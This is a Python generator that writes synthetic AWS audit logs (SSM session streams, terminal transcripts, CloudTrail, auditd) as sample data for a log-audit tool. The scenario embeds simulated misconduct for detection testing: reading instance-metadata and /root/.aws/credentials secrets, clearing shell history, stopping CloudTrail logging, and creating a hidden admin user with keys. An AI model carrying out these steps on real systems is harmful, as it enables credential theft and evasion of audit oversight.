#!/usr/bin/env python3
"""Writes auditq's bundled sample logs: one week-ish scenario in two AWS accounts.

Deterministic (no clock, no randomness; gzip mtime 0), so running it again reproduces the committed
files byte for byte. The formats, and their quirks, follow ../../shared/reference/formats.md:

- Session Manager streaming chunks are cut from a simulated pty byte stream exactly the way the SSM
  agent cuts them: `\\r` removed, tabs to spaces, split on `\\n`, the trailing empty element dropped.
- S3 transcripts are util-linux `script` recordings: header, raw ESC/CR/BS bytes, footer.
- CloudTrail deliveries are gzip'd `{"Records":[...]}` under AWSLogs/<acct>/CloudTrail/<region>/Y/M/D/.

Usage: python3 sample-logs/generate.py   (writes next to itself)
"""

import datetime as dt
import gzip
import hashlib
import io
import json
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))

PROD, STAGING = "111122223333", "444455556666"
REGION = {PROD: "eu-west-1", STAGING: "us-east-1"}
INSTANCES = {
    "prod-web-1": ("i-0a1b2c3d4e5f60711", PROD),
    "prod-db-1": ("i-0b2c3d4e5f6071822", PROD),
    "staging-app-1": ("i-0c3d4e5f607182933", STAGING),
    "prod-bastion-1": ("i-0d4e5f60718293a44", PROD),
}
UA_MAC = ("aws-cli/2.17.5 md/awscrt#0.20.11 ua/2.0 os/macos#23.5.0 md/arch#arm64 lang/python#3.11.9 "
          "md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/prompt#off "
          "md/command#ssm.start-session")
UA_LINUX = ("aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/linux#6.8.0-45-generic md/arch#x86_64 "
            "lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe "
            "md/distrib#ubuntu.24 md/prompt#off md/command#ssm.start-session")
UA_CONSOLE = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/129.0.0.0 Safari/537.36")


def sso_identity(account, role, principal_suffix, key):
    return {
        "type": "AssumedRole",
        "principalId": f"AROA{principal_suffix}:carol@example.com",
        "arn": f"arn:aws:sts::{account}:assumed-role/{role}/carol@example.com",
        "accountId": account,
        "accessKeyId": key,
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": f"AROA{principal_suffix}",
                "arn": f"arn:aws:iam::{account}:role/aws-reserved/sso.amazonaws.com/"
                       f"{REGION[PROD]}/{role}",
                "accountId": account,
                "userName": role,
            },
            "attributes": {"creationDate": "2026-10-05T13:58:12Z", "mfaAuthenticated": "false"},
        },
    }


def iam_user(account, name, principal, key):
    return {"type": "IAMUser", "principalId": principal, "arn": f"arn:aws:iam::{account}:user/{name}",
            "accountId": account, "accessKeyId": key, "userName": name}


USERS = {
    "alice": dict(identity=iam_user(PROD, "alice", "AIDAYQHXKZ4A7ALICE01", "AKIAYQHXKZ4A2LICE7QX"),
                  ip="203.0.113.10", ua=UA_MAC),
    "bob": dict(identity=iam_user(PROD, "bob", "AIDAYQHXKZ4B7BOB0002", "AKIAYQHXKZ4B3OBB9KD2"),
                ip="198.51.100.23", ua=UA_LINUX),
    "carol-prod": dict(identity=sso_identity(PROD, "AWSReservedSSO_AdministratorAccess_5e2a1c0d9b8f7a61",
                                             "YQHXKZ4CAROLADMIN01", "ASIAYQHXKZ4C7CAROL01"),
                       ip="192.0.2.77", ua=UA_MAC),
    "carol-staging": dict(identity=sso_identity(STAGING, "AWSReservedSSO_ReadOnlyAccess_1f2e3d4c5b6a7980",
                                                "ZR5JLY6CAROLREAD01", "ASIAZR5JLY6C7CAROL02"),
                          ip="192.0.2.77", ua=UA_MAC),
    "dave": dict(identity=iam_user(STAGING, "dave", "AIDAZR5JLY6D7DAVE003", "AKIAZR5JLY6D4AVE2MQ8"),
                 ip="198.51.100.99", ua=UA_LINUX),
}


def t(text):
    return dt.datetime.strptime(text, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=dt.timezone.utc)


def iso(moment):
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def millis(moment):
    return int(moment.timestamp() * 1000)


def digest(*parts):
    return hashlib.sha256("\x00".join(parts).encode()).hexdigest()


def uuid_of(*parts):
    h = digest(*parts)
    return f"{h[0:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def cwl_event_id(*parts):
    return str(int(digest("cwl", *parts), 16))[:56]


# ---------------------------------------------------------------------------------------------
# Sessions

SESSIONS = [
    # id, user key, instance, start, end, document, parameters, how it is logged
    ("alice-0a7f3c9e1b2d4f601", "alice", "prod-web-1", "2026-10-05T09:12:03Z", "2026-10-05T09:18:40Z",
     None, None, "stream"),
    ("bob-0b8e4d0f2c3e5a712", "bob", "prod-db-1", "2026-10-05T10:30:15Z", "2026-10-05T10:41:02Z",
     None, None, "stream"),
    ("carol@example.com-wzleysigzmbd6fmkefjqvt5w4u", "carol-prod", "prod-web-1", "2026-10-05T14:05:44Z",
     "2026-10-05T14:12:10Z", None, None, "stream"),
    ("dave-0d9a5b1e3f4a6c823", "dave", "staging-app-1", "2026-10-06T08:02:11Z", "2026-10-06T08:09:57Z",
     None, None, "stream"),
    ("alice-0e1f2a3b4c5d6e7f8", "alice", "prod-db-1", "2026-10-06T11:00:05Z", "2026-10-06T11:07:30Z",
     None, None, "transcript"),
    ("carol@example.com-q3ksx7n2pd5m4hbf6gtyr8wzla", "carol-staging", "staging-app-1",
     "2026-10-06T15:20:30Z", "2026-10-06T15:26:02Z", None, None, "transcript"),
    ("bob-0f1a2b3c4d5e6f701", "bob", "prod-bastion-1", "2026-10-06T16:00:12Z", "2026-10-06T16:45:50Z",
     "AWS-StartSSHSession", {"portNumber": ["22"]}, None),
    ("dave-01b2c3d4e5f6a7b80", "dave", "staging-app-1", "2026-10-06T17:10:00Z", "2026-10-06T17:55:30Z",
     "AWS-StartPortForwardingSession", {"portNumber": ["5432"], "localPortNumber": ["15432"]}, None),
    ("bob-02c3d4e5f6a7b8c91", "bob", "prod-web-1", "2026-10-06T09:30:00Z", "2026-10-06T09:34:10Z",
     None, None, "stream"),
    ("dave-03d4e5f6a7b8c9da2", "dave", "staging-app-1", "2026-10-05T16:40:00Z", "2026-10-05T16:44:30Z",
     None, None, "stream"),
]

# Bash on Amazon Linux with bracketed paste: after Enter bash turns paste mode off, and before each
# prompt it sets the window title and turns it back on. The agent's ANSI stripping leaves these.
def al2_prompt(user, host, sigil):
    return f"\x1b[?2004l\x1b]0;{user}@{host}:~\x07\x1b[?2004h[{user}@{host} ~]{sigil} "


EC2 = al2_prompt("ec2-user", "ip-10-0-1-11", "$")
ROOT_WEB = al2_prompt("root", "ip-10-0-1-11", "#")
ROOT_STAGING = "\x1b]0;root@ip-10-1-2-33:~\x07[root@ip-10-1-2-33 ~]# "

# Streaming sessions: (upload time, pty bytes read in that second). Enter is "\r\n" on the pty.
STREAMS = {
    "alice-0a7f3c9e1b2d4f601": ("ec2-user", [
        ("2026-10-05T09:12:05Z", EC2),
        ("2026-10-05T09:12:09Z", "whoami\r\nec2-user\r\n" + EC2),
        ("2026-10-05T09:12:31Z", "sudo systemctl restart nginx\r\n" + EC2),
        ("2026-10-05T09:13:02Z", "sudo su -\r\nLast login: Mon Oct  5 08:01:12 UTC 2026 on pts/0\r\n" + ROOT_WEB),
        ("2026-10-05T09:13:40Z", "tail -n 20 /var/log/secure\r\n"
         "Oct  5 09:12:31 ip-10-0-1-11 sudo: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; "
         "COMMAND=/bin/systemctl restart nginx\r\n"
         "Oct  5 09:13:02 ip-10-0-1-11 sudo: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; "
         "COMMAND=/bin/su -\r\n"
         "Oct  5 09:13:02 ip-10-0-1-11 su: pam_unix(su-l:session): session opened for user root by "
         "ec2-user(uid=0)\r\n" + ROOT_WEB),
        ("2026-10-05T09:14:30Z", "/usr/local/sbin/rotate-logs.sh\r\nrotated 3 files\r\n" + ROOT_WEB),
        # Echo off: what alice types next never reaches the pty's output (auditd sees it run).
        ("2026-10-05T09:15:20Z", "stty -echo\r\n" + ROOT_WEB),
        ("2026-10-05T09:16:05Z", ROOT_WEB),
        ("2026-10-05T09:16:31Z", ROOT_WEB),
        ("2026-10-05T09:17:58Z", "exit\r\nlogout\r\n" + EC2),
        ("2026-10-05T09:18:38Z", "exit\r\nexit\r\n"),
    ]),
    "bob-0b8e4d0f2c3e5a712": ("ssm-user", [
        ("2026-10-05T10:30:17Z", "$ "),
        ("2026-10-05T10:30:22Z", "df -h\r\nFilesystem      Size  Used Avail Use% Mounted on\r\n"
         "/dev/root        97G   41G   57G  42% /\r\ntmpfs           7.8G     0  7.8G   0% /dev/shm\r\n"
         "/dev/nvme1n1    492G  301G  191G  62% /var/lib/postgresql\r\n$ "),
        # Enter on psql, its output, then bob starts typing the next command: the upload cuts it.
        ("2026-10-05T10:31:05Z", "sudo -u postgres psql -c 'select count(*) from pg_stat_activity;'\r\n"
         " count \r\n-------\r\n    14\r\n(1 row)\r\n\r\n$ tail -n 50 /var/log/postgres"),
        ("2026-10-05T10:31:06Z", "ql/postgresql-14-main.log\r\n"
         "2026-10-05 10:12:01.123 UTC [2231] LOG:  checkpoint starting: time\r\n"
         "2026-10-05 10:12:09.871 UTC [2231] LOG:  checkpoint complete: wrote 83 buffers (0.5%)\r\n"
         "2026-10-05 10:29:44.002 UTC [40112] FATAL:  password authentication failed for user \"app\"\r\n$ "),
        ("2026-10-05T10:41:00Z", "exit\r\n"),
    ]),
    "carol@example.com-wzleysigzmbd6fmkefjqvt5w4u": ("ssm-user", [
        # The prompt echoed twice and two commands with their output in one upload.
        ("2026-10-05T14:05:50Z", "sh-4.2$ sh-4.2$ uptime\r\n 14:05:50 up 12 days,  3:41,  0 users,  "
         "load average: 0.08, 0.03, 0.01\r\nsh-4.2$ id\r\n"
         "uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)\r\nsh-4.2$ "),
        ("2026-10-05T14:06:30Z", "sudo cat /etc/nginx/nginx.conf\r\n"
         "# For more information on configuration, see:\r\n"
         "#   * Official English Documentation: http://nginx.org/en/docs/\r\n\r\n"
         "user nginx;\r\nworker_processes auto;\r\nerror_log /var/log/nginx/error.log;\r\n"
         "pid /run/nginx.pid;\r\n\r\nevents {\r\n\tworker_connections 1024;\r\n}\r\nsh-4.2$ "),
        ("2026-10-05T14:12:08Z", "exit\r\nexit\r\n"),
    ]),
    "dave-0d9a5b1e3f4a6c823": ("ssm-user", [
        ("2026-10-06T08:02:13Z", "sh-5.2$ "),
        ("2026-10-06T08:02:40Z", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"
         "\r\nstaging-app-role\r\nsh-5.2$ "),
        ("2026-10-06T08:03:15Z", "sudo -i\r\n" + ROOT_STAGING),
        ("2026-10-06T08:04:02Z", "cat /root/.aws/credentials\r\n[default]\r\n"
         "aws_access_key_id = AKIAZR5JLY6DEPLOY1X7\r\n"
         "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYDEPLOYKEY\r\n" + ROOT_STAGING),
        ("2026-10-06T08:09:30Z", "history -c\r\n" + ROOT_STAGING),
        ("2026-10-06T08:09:41Z", "exit\r\nlogout\r\nsh-5.2$ "),
        ("2026-10-06T08:09:55Z", "exit\r\nexit\r\n"),
    ]),
    "bob-02c3d4e5f6a7b8c91": ("ssm-user", [
        ("2026-10-06T09:30:02Z", "sh-4.2$ "),
        ("2026-10-06T09:30:40Z", "sudo tail -n 5 /var/log/nginx/error.log\r\n"
         "2026/10/06 09:11:02 [error] 2231#2231: *8841 connect() failed (111: Connection refused) while "
         "connecting to upstream, client: 10.0.0.5, server: _, request: \"GET /health HTTP/1.1\"\r\n"
         "2026/10/06 09:11:07 [error] 2231#2231: *8843 upstream timed out (110: Connection timed out)\r\n"
         "sh-4.2$ "),
        ("2026-10-06T09:31:10Z", "uname -a\r\nLinux ip-10-0-1-11.eu-west-1.compute.internal "
         "5.10.226-214.879.amzn2.x86_64 #1 SMP Tue Sep 24 01:36:39 UTC 2026 x86_64 x86_64 x86_64 GNU/Linux"
         "\r\nsh-4.2$ "),
        ("2026-10-06T09:34:08Z", "exit\r\nexit\r\n"),
    ]),
    "dave-03d4e5f6a7b8c9da2": ("ssm-user", [
        ("2026-10-05T16:40:02Z", "sh-5.2$ "),
        ("2026-10-05T16:40:20Z", "ls /opt/app\r\nbin  config  current  releases  shared\r\nsh-5.2$ "),
        ("2026-10-05T16:41:03Z", "sudo systemctl status app.service\r\n"
         "\u25cf app.service - Staging application\r\n"
         "     Loaded: loaded (/etc/systemd/system/app.service; enabled; preset: disabled)\r\n"
         "     Active: active (running) since Mon 2026-10-05 07:00:12 UTC; 9h ago\r\n"
         "   Main PID: 3120 (app)\r\nsh-5.2$ "),
        ("2026-10-05T16:44:28Z", "exit\r\nexit\r\n"),
    ]),
}


def agent_lines(pty_text):
    """What the SSM agent uploads for one read of the pty: \\r removed, tabs to spaces, split on
    \\n, the trailing empty element dropped."""
    lines = pty_text.replace("\r", "").replace("\t", " ").split("\n")
    if lines and lines[-1] == "":
        lines.pop()
    return lines


def write_streams(session_by_id):
    out_dir = os.path.join(HERE, "cloudwatch", "aws-ssm-sessions")
    os.makedirs(out_dir)
    for sid, (run_as, reads) in STREAMS.items():
        user_key, instance_name = session_by_id[sid][1], session_by_id[sid][2]
        instance, account = INSTANCES[instance_name]
        events = []
        for n, (when, text) in enumerate(reads):
            moment = t(when)
            message = {
                "eventVersion": "1.0",
                "eventTime": iso(moment),
                "awsRegion": REGION[account],
                "target": {"id": instance},
                "userIdentity": {"arn": USERS[user_key]["identity"]["arn"]},
                "runAsUser": run_as,
                "sessionId": sid,
                "sessionData": agent_lines(text),
            }
            events.append({
                "logStreamName": sid,
                "timestamp": millis(moment),
                "message": json.dumps(message, separators=(",", ":")),
                "ingestionTime": millis(moment) + 200 + 97 * (n % 7),
                "eventId": cwl_event_id(sid, str(n)),
            })
        body = {"events": events, "searchedLogStreams": []}
        with open(os.path.join(out_dir, f"{sid}.json"), "w") as f:
            json.dump(body, f, indent=4)
            f.write("\n")


# ---------------------------------------------------------------------------------------------
# S3 transcripts (raw pty bytes under util-linux script)

UBUNTU = ("\x1b[?2004h\x1b]0;ubuntu@ip-10-0-2-12: ~\x07"
          "\x1b[01;32mubuntu@ip-10-0-2-12\x1b[00m:\x1b[01;34m~\x1b[00m$ ")
UBUNTU_REDRAW = "\x1b[01;32mubuntu@ip-10-0-2-12\x1b[00m:\x1b[01;34m~\x1b[00m$ "
ENTER = "\r\n\x1b[?2004l\r"

VIM_SCREEN = (
    "\x1b[?1049h\x1b[22;0;0t\x1b[?1h\x1b=\x1b[H\x1b[2J\x1b[?25l"
    "\x1b[1;1H# This is the sshd server system-wide configuration file.  See\r\n"
    "# sshd_config(5) for more information.\r\n\r\n"
    "Include /etc/ssh/sshd_config.d/*.conf\r\n\r\n"
    "#Port 22\r\n#AddressFamily any\r\n\r\n"
    "PermitRootLogin no\r\n#StrictModes yes\r\n#MaxAuthTries 6\r\n"
    "\x1b[94m~                                                                               \r\n"
    "~                                                                               \x1b[0m\r\n"
    "\x1b[24;1H\"/etc/ssh/sshd_config\" 124L, 3254B\x1b[24;63H9,1           Top"
    "\x1b[9;1H\x1b[?25h"
    # The user moves to "no", enters insert mode and changes it to "yes".
    "\x1b[?25l\x1b[24;1H\x1b[1m-- INSERT --\x1b[0m\x1b[24;13H\x1b[K\x1b[24;63H9,17          Top"
    "\x1b[9;17H\x1b[?25h\x1b[?25l\x1b[9;17H\x1b[Kyes\x1b[24;63H9,20          Top\x1b[9;20H\x1b[?25h"
    "\x1b[24;1H\x1b[K\x1b[9;19H\x1b[?25l\x1b[24;1H:wq\x1b[?25h\r"
    "\x1b[?25l\"/etc/ssh/sshd_config\" 124L, 3255B written"
    "\x1b[23;0;0t\x1b[?1l\x1b>\x1b[?25h\x1b[?1049l"
)

LESS_SCREEN = (
    "\x1b[?1049h\x1b[22;0;0t\x1b[?1h\x1b=\r"
    "Oct  6 15:00:01 ip-10-1-2-33 systemd[1]: Started dnf-makecache.service - dnf makecache.\r\n"
    "Oct  6 15:19:58 ip-10-1-2-33 amazon-ssm-agent[2112]: INFO [ssm-session-worker] Session started\r\n"
    "Oct  6 15:20:31 ip-10-1-2-33 systemd[1]: Started session-c4.scope - Session c4 of User ssm-user.\r\n"
    "\x1b[7m/var/log/messages\x1b[27m\x1b[K\r\x1b[K:\x1b[K"
    "\x1b[K\r\x1b[K\x1b[?1l\x1b>\x1b[?1049l\x1b[23;0;0t"
)


def transcript_alice():
    sid, instance = "alice-0e1f2a3b4c5d6e7f8", INSTANCES["prod-db-1"][0]
    body = (
        UBUNTU + "systemctl stauts" + "\b\x1b[K" * 4 + "atus ssh" + ENTER
        + "\u25cf ssh.service - OpenBSD Secure Shell server\r\n"
        "     Loaded: loaded (/lib/systemd/system/ssh.service; enabled; vendor preset: enabled)\r\n"
        "     Active: active (running) since Thu 2026-10-01 06:12:44 UTC; 5 days ago\r\n"
        + UBUNTU + "sudo vim /etc/ssh/sshd_config" + ENTER + VIM_SCREEN
        + UBUNTU + "sudo systemctl restart ssh" + ENTER
        # History recall: two presses of Up; readline redraws the line each time.
        + UBUNTU + "\r" + UBUNTU_REDRAW + "sudo systemctl restart ssh\x1b[K"
        + "\r" + UBUNTU_REDRAW + "systemctl status ssh\x1b[K" + ENTER
        + "\u25cf ssh.service - OpenBSD Secure Shell server\r\n"
        "     Active: active (running) since Tue 2026-10-06 11:05:12 UTC; 1min 41s ago\r\n"
        + UBUNTU + "exit" + ENTER + "logout\r\n"
    )
    return sid, instance, "2026-10-06 11:00:06+00:00", "2026-10-06 11:07:31+00:00", body


def transcript_carol():
    sid, instance = "carol@example.com-q3ksx7n2pd5m4hbf6gtyr8wzla", INSTANCES["staging-app-1"][0]
    body = (
        "sh-5.2$ cat /etc/os-release\r\nNAME=\"Amazon Linux\"\r\nVERSION=\"2023\"\r\nID=\"amzn\"\r\n"
        "PRETTY_NAME=\"Amazon Linux 2023.5.20240916\"\r\n"
        # Typed, then abandoned with Ctrl-C: never ran.
        "sh-5.2$ rm -rf /tmp/build-cache^C\r\n"
        "sh-5.2$ sudo journalctl -u amazon-ssm-agent --no-pager -n 20\r\n"
        "Oct 06 15:19:58 ip-10-1-2-33.ec2.internal amazon-ssm-agent[2112]: 2026-10-06 15:19:58 INFO "
        "[ssm-session-worker] [carol@example.com-q3ksx7n2pd5m4hbf6gtyr8wzla] Session started\r\n"
        "sh-5.2$ less /var/log/messages\r\n" + LESS_SCREEN
        + "\rsh-5.2$ exit\r\nexit\r\n"
    )
    return sid, instance, "2026-10-06 15:20:31+00:00", "2026-10-06 15:26:02+00:00", body


def write_transcripts():
    out_dir = os.path.join(HERE, "s3", "ssm-session-logs", "session-logs")
    os.makedirs(out_dir)
    for sid, instance, started, done, body in (transcript_alice(), transcript_carol()):
        header = (f"Script started on {started} [COMMAND=\"cat /var/lib/amazon/ssm/{instance}/session/"
                  f"orchestration/{sid}/Standard_Stream/ipcTempFile.log\" <not executed on terminal>]\n")
        footer = f"\nScript done on {done} [COMMAND_EXIT_CODE=\"0\"]\n"
        with open(os.path.join(out_dir, f"{sid}.log"), "wb") as f:
            f.write((header + body + footer).encode())


# ---------------------------------------------------------------------------------------------
# CloudTrail

def trail_record(user_key, when, source, name, region, request, response, account=None,
                 event_type="AwsApiCall", read_only=False, ua=None, extra=None, ip=None, key=None):
    user = USERS[user_key]
    identity = dict(user["identity"])
    account = account or identity["accountId"]
    record = {
        "eventVersion": "1.09",
        "userIdentity": identity,
        "eventTime": when,
        "eventSource": source,
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": ip or user["ip"],
        "userAgent": ua or user["ua"],
        "requestParameters": request,
        "responseElements": response,
        "requestID": uuid_of("request", key or f"{name}{when}{user_key}"),
        "eventID": uuid_of("event", key or f"{name}{when}{user_key}"),
        "readOnly": read_only,
        "eventType": event_type,
        "managementEvent": True,
        "recipientAccountId": account,
        "eventCategory": "Management",
    }
    if event_type == "AwsApiCall":
        record["tlsDetails"] = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                                "clientProvidedHostHeader": f"{source.split('.')[0]}.{region}.amazonaws.com"}
    if extra:
        record.update(extra)
    return record


def session_records():
    records = []
    for sid, user_key, instance_name, start, end, document, parameters, _ in SESSIONS:
        instance, account = INSTANCES[instance_name]
        region = REGION[account]
        request = {"target": instance}
        if document:
            request["documentName"] = document
        if parameters:
            request["parameters"] = parameters
        stream_url = (f"wss://ssmmessages.{region}.amazonaws.com/v1/data-channel/{sid}"
                      f"?role=publish_subscribe&cell-number=AAEAAfR{digest(sid)[:40]}")
        records.append(trail_record(user_key, start, "ssm.amazonaws.com", "StartSession", region, request,
                                    {"sessionId": sid, "tokenValue": "Value hidden due to security reasons.",
                                     "streamUrl": stream_url}))
        records.append(trail_record(user_key, end, "ssm.amazonaws.com", "TerminateSession", region,
                                    {"sessionId": sid}, {"sessionId": sid}))
    return records


def console_login(user_key, when, mfa, success, ip=None):
    user = USERS[user_key]
    identity = {k: v for k, v in user["identity"].items() if k != "accessKeyId"}
    identity["accessKeyId"] = ""
    record = trail_record(user_key, when, "signin.amazonaws.com", "ConsoleLogin", "us-east-1", None,
                          {"ConsoleLogin": "Success" if success else "Failure"},
                          event_type="AwsConsoleSignIn", ua=UA_CONSOLE, ip=ip,
                          extra={"additionalEventData": {
                              "LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23",
                              "MobileVersion": "No", "MFAUsed": "Yes" if mfa else "No"}})
    record["userIdentity"] = identity
    record["eventVersion"] = "1.08"
    if mfa:
        record["additionalEventData"]["MFAIdentifier"] = "arn:aws:iam::111122223333:mfa/alice-yubikey"
    if not success:
        record["errorMessage"] = "Failed authentication"
        del record["userIdentity"]["arn"]
    return record


def other_records():
    iam = "iam.amazonaws.com"
    return [
        console_login("alice", "2026-10-05T08:55:10Z", mfa=True, success=True),
        console_login("bob", "2026-10-06T15:58:02Z", mfa=False, success=True),
        console_login("alice", "2026-10-06T03:14:15Z", mfa=False, success=False, ip="45.155.205.233"),
        trail_record("bob", "2026-10-06T16:50:00Z", iam, "CreateUser", "us-east-1", {"userName": "backup-svc"},
                     {"user": {"path": "/", "userName": "backup-svc", "userId": "AIDAYQHXKZ4BACKUP001",
                               "arn": "arn:aws:iam::111122223333:user/backup-svc",
                               "createDate": "Oct 6, 2026 4:50:00 PM"}}),
        trail_record("bob", "2026-10-06T16:50:30Z", iam, "AttachUserPolicy", "us-east-1",
                     {"userName": "backup-svc", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
                     None),
        trail_record("bob", "2026-10-06T16:51:00Z", iam, "CreateAccessKey", "us-east-1",
                     {"userName": "backup-svc"},
                     {"accessKey": {"userName": "backup-svc", "accessKeyId": "AKIAYQHXKZ4BACKUPK3Y",
                                    "status": "Active", "createDate": "Oct 6, 2026 4:51:00 PM"}}),
        trail_record("dave", "2026-10-06T18:02:00Z", "cloudtrail.amazonaws.com", "StopLogging", "us-east-1",
                     {"name": "arn:aws:cloudtrail:us-east-1:444455556666:trail/org-audit"}, None),
    ]


def names_records():
    """What the instances and accounts are called: tags and aliases set the evening before, and
    prod-db-1 renamed on Tuesday morning (sessions on it before and after carry each name)."""
    ec2, iam = "ec2.amazonaws.com", "iam.amazonaws.com"

    def tags(user_key, when, names, pairs):
        account = INSTANCES[names[0]][1]
        request = {"resourcesSet": {"items": [{"resourceId": INSTANCES[n][0]} for n in names]},
                   "tagSet": {"items": [{"key": k, "value": v} for k, v in pairs]}}
        return trail_record(user_key, when, ec2, "CreateTags", REGION[account], request, {"_return": True},
                            account=account)

    prod = ["prod-web-1", "prod-db-1", "prod-bastion-1"]
    records = [
        trail_record("carol-prod", "2026-10-04T17:00:00Z", iam, "CreateAccountAlias", "us-east-1",
                     {"accountAlias": "acme-prod"}, None),
        trail_record("dave", "2026-10-04T17:01:00Z", iam, "CreateAccountAlias", "us-east-1",
                     {"accountAlias": "acme-staging"}, None),
        tags("carol-prod", "2026-10-04T17:06:00Z", prod, [("Environment", "production")]),
        tags("dave", "2026-10-04T17:10:00Z", ["staging-app-1"], [("Name", "staging-app-1"), ("Environment", "staging")]),
        tags("carol-prod", "2026-10-06T10:00:00Z", ["prod-db-1"], [("Name", "prod-db-primary")]),
    ]
    for n, name in enumerate(prod):
        records.append(tags("carol-prod", f"2026-10-04T17:05:0{n}Z", [name], [("Name", name)]))
    return records


RUN_COMMAND_ID = uuid_of("run-command", "bob", "openssl")


def access_records():
    """Accesses without a Session Manager session: bob's Run Command on two production instances
    (CloudTrail hides its parameters), and alice's EC2 Instance Connect login to the bastion."""
    web, db = INSTANCES["prod-web-1"][0], INSTANCES["prod-db-1"][0]
    bastion = INSTANCES["prod-bastion-1"][0]
    region = REGION[PROD]
    command = {
        "commandId": RUN_COMMAND_ID, "documentName": "AWS-RunShellScript", "documentVersion": "$DEFAULT",
        "comment": "CHG-2041 patch openssl", "expiresAfter": "Oct 6, 2026 2:30:00 PM",
        "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS", "instanceIds": [web, db], "targets": [],
        "requestedDateTime": "Oct 6, 2026 12:30:00 PM", "status": "Pending", "statusDetails": "Pending",
        "outputS3BucketName": "", "outputS3KeyPrefix": "", "maxConcurrency": "50", "maxErrors": "0",
        "targetCount": 2, "completedCount": 0, "errorCount": 0, "deliveryTimedOutCount": 0,
        "serviceRole": "", "timeoutSeconds": 600,
    }
    return [
        trail_record("bob", "2026-10-06T12:30:00Z", "ssm.amazonaws.com", "SendCommand", region,
                     {"instanceIds": [web, db], "documentName": "AWS-RunShellScript",
                      "comment": "CHG-2041 patch openssl", "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS",
                      "interactive": False},
                     {"command": command}),
        trail_record("alice", "2026-10-06T13:10:00Z", "ec2-instance-connect.amazonaws.com", "SendSSHPublicKey",
                     region,
                     {"instanceId": bastion, "availabilityZone": f"{region}a", "instanceOSUser": "ec2-user",
                      "sSHPublicKey": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGFsaWNlLWVpYy1zYW1wbGUta2V5LTAwMDAwMDAw"},
                     {"requestId": uuid_of("eic", "alice"), "success": True}),
    ]


def write_cloudtrail():
    records = session_records() + other_records() + names_records() + access_records()
    files = {}
    for record in records:
        moment = t(record["eventTime"])
        delivery = moment.replace(minute=moment.minute - moment.minute % 5, second=0) + dt.timedelta(minutes=5)
        files.setdefault((record["recipientAccountId"], record["awsRegion"], delivery), []).append(record)
    # CloudTrail delivers some records twice: bob's CreateUser arrives again in a later file.
    again = next(r for r in records if r["eventName"] == "CreateUser")
    later = t("2026-10-06T17:05:00Z")
    files.setdefault((PROD, "us-east-1", later), []).append(again)
    root = os.path.join(HERE, "s3", "cloudtrail")
    for (account, region, delivery), batch in sorted(files.items()):
        batch.sort(key=lambda r: r["eventTime"])
        folder = os.path.join(root, "AWSLogs", account, "CloudTrail", region, delivery.strftime("%Y/%m/%d"))
        os.makedirs(folder, exist_ok=True)
        unique = digest(account, region, iso(delivery))
        unique = "".join(c for c in unique if c.isalnum())[:16].upper()
        name = f"{account}_CloudTrail_{region}_{delivery.strftime('%Y%m%dT%H%MZ')}_{unique}.json.gz"
        body = json.dumps({"Records": batch}, separators=(",", ":")).encode()
        buffer = io.BytesIO()
        with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as gz:
            gz.write(body)
        with open(os.path.join(folder, name), "wb") as f:
            f.write(buffer.getvalue())
    return len(records), sum(len(b) for b in files.values())


# ---------------------------------------------------------------------------------------------
# Host logs: what Session Manager cannot see

def syslog_time(moment):
    # rsyslog's traditional format on Amazon Linux 2: no year, no zone, space-padded day.
    return moment.strftime("%b ") + f"{moment.day:>2}" + moment.strftime(" %H:%M:%S")


def cwl_export(stream, timed_lines, delay_ms=900):
    """A `filter-log-events` export of lines the CloudWatch agent shipped (event time = when the
    agent read the line, about a second after it was written)."""
    events = []
    for n, (moment, line) in enumerate(timed_lines):
        events.append({
            "logStreamName": stream,
            "timestamp": millis(moment) + delay_ms,
            "message": line,
            "ingestionTime": millis(moment) + delay_ms + 150,
            "eventId": cwl_event_id(stream, line, str(n)),
        })
    return {"events": events, "searchedLogStreams": []}


def audit_value(text):
    """An auditd string field: quoted, or hex when it holds a space, a quote or a control byte."""
    if any(c in text for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7e for c in text):
        return text.encode().hex().upper()
    return f'"{text}"'


def exec_records(moment, serial, pid, ppid, argv, exe, uid, uid_name, auid, ses, tty, cwd):
    """The records auditd (log_format = ENRICHED) writes for one execve under
    `-a always,exit -F arch=b64 -S execve -k exec`: SYSCALL, EXECVE, CWD, PATH, PROCTITLE, EOE.
    sudo is setuid root: its real uid stays the caller's, its effective uid is 0."""
    euid = 0 if exe == "/usr/bin/sudo" else uid
    stamp = f"msg=audit({int(moment.timestamp())}.{serial % 1000:03d}:{serial})"
    comm = os.path.basename(argv[0]).lstrip("-")[:15]
    auid_number, auid_name = auid
    syscall = (f"type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1 a1=55d0c2 "
               f"a2=55d0c3 a3=0 items=2 ppid={ppid} pid={pid} auid={auid_number} uid={uid} gid={uid} "
               f"euid={euid} suid={euid} fsuid={euid} egid={uid} sgid={uid} fsgid={uid} "
               f"tty={tty or '(none)'} ses={ses} comm=\"{comm}\" exe=\"{exe}\" key=\"exec\""
               f"\x1dARCH=x86_64 SYSCALL=execve AUID=\"{auid_name}\" UID=\"{uid_name}\" GID=\"{uid_name}\"")
